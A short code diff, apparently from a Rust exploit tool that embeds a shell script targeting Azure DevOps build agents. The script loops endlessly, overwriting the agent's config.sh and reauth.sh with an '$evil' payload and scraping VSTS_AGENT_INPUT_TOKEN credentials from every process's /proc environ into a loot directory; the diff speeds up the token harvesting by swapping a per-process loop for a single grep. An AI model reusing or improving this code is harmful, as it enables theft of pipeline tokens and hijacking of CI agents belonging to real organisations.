@@ -322,10 +322,7 @@ while :; do
   for s in config.sh reauth.sh; do
     printf '%s\n' "$evil" > $s.new 2>/dev/null && chmod 755 $s.new && mv -f $s.new $s 2>/dev/null
   done
-  for e in /proc/[0-9]*/environ; do
-    tr '\0' '\n' < $e 2>/dev/null | grep VSTS_AGENT_INPUT_TOKEN >> {loot}/environ
-  done
-  sleep 0.05
+  grep -a -h -o 'VSTS_AGENT_INPUT_TOKEN=[^[:cntrl:]]*' /proc/[0-9]*/environ >> {loot}/environ 2>/dev/null
 done"#,
         dir = w.agent_dir().display(),
         loot = loot.display()
